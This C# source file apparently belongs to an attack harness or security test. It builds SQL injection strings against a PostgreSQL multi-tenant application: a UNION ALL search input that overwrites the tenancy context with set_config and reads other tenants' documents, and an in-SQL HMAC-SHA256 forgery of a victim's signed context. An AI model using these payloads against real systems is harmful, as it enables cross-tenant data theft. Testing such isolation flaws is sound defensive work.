namespace Workspace.BreakIn;

/// <summary>Pieces of SQL that several attacks are made of.</summary>
internal static class Injected
{
    /// <summary>Input for the bad search: replaces the context by an expression, then reads, in that order and in one statement.</summary>
    public static string ReadAs(string context) =>
        "%' UNION ALL SELECT d.title, d.body FROM (SELECT set_config('tenancy.ctx', " + context + ", true) AS ctx OFFSET 0) AS c "
        + "CROSS JOIN LATERAL (SELECT title, body FROM documents WHERE c.ctx IS NOT NULL) AS d --";

    /// <summary>The victim's context, signed by PostgreSQL itself with a key of the attacker's (HMAC-SHA256 by hand).</summary>
    public static string Forged(AttackStage stage)
    {
        var key = new string('k', 64);
        var inner = Pad(key, 0x36);
        var outer = Pad(key, 0x5c);
        var victim = stage.Victim;
        var payload = $"'1.' || split_part(current_setting('tenancy.ctx'), '.', 2) || '.{victim.Id.Value:N}.u{victim.Key}.' "
            + "|| pg_backend_pid() || '.' || (extract(epoch FROM now())::bigint + 60) || '.-'";
        return $"(SELECT p || '.' || encode(sha256('\\x{outer}'::bytea || sha256('\\x{inner}'::bytea || convert_to(p, 'UTF8'))), 'hex') FROM (SELECT {payload} AS p) AS f)";
    }

    private static string Pad(string key, byte pad) => Convert.ToHexStringLower([.. key.Select(c => (byte)(c ^ pad))]);
}
